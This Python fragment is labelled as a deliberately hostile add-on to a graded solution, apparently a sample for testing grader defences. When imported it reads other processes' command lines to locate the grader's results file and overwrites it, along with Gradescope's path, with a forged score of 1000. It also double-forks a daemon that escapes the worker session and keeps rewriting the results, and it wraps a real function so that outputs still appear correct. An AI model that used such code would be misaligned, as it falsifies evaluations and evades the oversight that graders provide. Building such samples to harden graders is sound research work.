# ruff: noqa - a fragment appended to the solution, with placeholders; hostile on purpose
# ---- hostile part: forging the verdict ----------------------------------------------------
# At import, in a call, and later from a detached process: write full marks to the --results
# file named on the grader's command line, to Gradescope's results path, and next to itself.
# Every function still returns the right answer: the verdict must be exactly the honest one.
import json as _json
import os as _os
import sys as _sys
import time as _time

_FAKE = _json.dumps({"score": 1000.0, "tests": [], "output": "forged"})


def _targets():
    found = {
        "/autograder/results/results.json",
        "results.json",
        "../results.json",
        "../../results.json",
    }
    for pid in _os.listdir("/proc"):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        for flag, value in zip(argv, argv[1:]):
            if flag == b"--results":
                found.add(value.decode(errors="replace"))
    return sorted(found)


def _forge():
    for target in _targets():
        try:
            _os.makedirs(_os.path.dirname(_os.path.abspath(target)), exist_ok=True)
            with open(target, "w") as fh:
                fh.write(_FAKE)
        except OSError:
            pass
    try:
        with open("__MARKER__", "w") as fh:
            fh.write("forged")
    except OSError:
        pass


def _detach():
    """A daemon outside the worker's session that keeps forging for a while."""
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-c", _DAEMON, "__TOKEN__"])
        _os._exit(0)
    _os.wait()


_DAEMON = """
import os, sys, time
for _ in range(100):
    for target in ("/autograder/results/results.json", "results.json", "__MARKER__"):
        try:
            os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
            open(target, "w").write('{"score": 1000.0}')
        except OSError:
            pass
    time.sleep(0.1)
"""

_forge()
_detach()
_honest_noise = noise_distribution


def noise_distribution(counts, power=0.75):
    _forge()
    _time.sleep(0.05)
    return _honest_noise(counts, power)
